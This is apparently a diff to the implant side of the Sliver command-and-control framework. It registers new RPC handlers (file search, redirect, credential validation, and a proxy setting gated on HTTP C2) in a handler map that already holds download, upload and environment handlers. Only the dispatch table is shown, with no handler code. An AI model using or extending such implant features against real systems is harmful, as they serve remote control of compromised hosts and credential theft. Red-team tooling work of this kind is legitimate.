@@ -35,6 +35,7 @@ var (
 	genericHandlers = map[uint32]RPCHandler{
 		sliverpb.MsgPing:           pingHandler,
 		sliverpb.MsgLsReq:          dirListHandler,
+		sliverpb.MsgSearchReq:      searchHandler,
 		sliverpb.MsgDownloadReq:    downloadHandler,
 		sliverpb.MsgUploadReq:      uploadHandler,
 		sliverpb.MsgCdReq:          cdHandler,
@@ -47,7 +48,14 @@ var (
 		sliverpb.MsgEnvReq:         getEnvHandler,
 		sliverpb.MsgUnsetEnvReq:    unsetEnvHandler,
 		sliverpb.MsgReconfigureReq: reconfigureHandler,
+		sliverpb.MsgRedirectReq:    redirectHandler,
 		sliverpb.MsgChtimesReq:     chtimesHandler,
+
+		sliverpb.MsgValidateCredsReq: validateCredsHandler,
+
+		// {{if .Config.HTTPc2Enabled}}
+		sliverpb.MsgProxySetReq: proxySetHandler,
+		// {{end}}
 	}
 )
 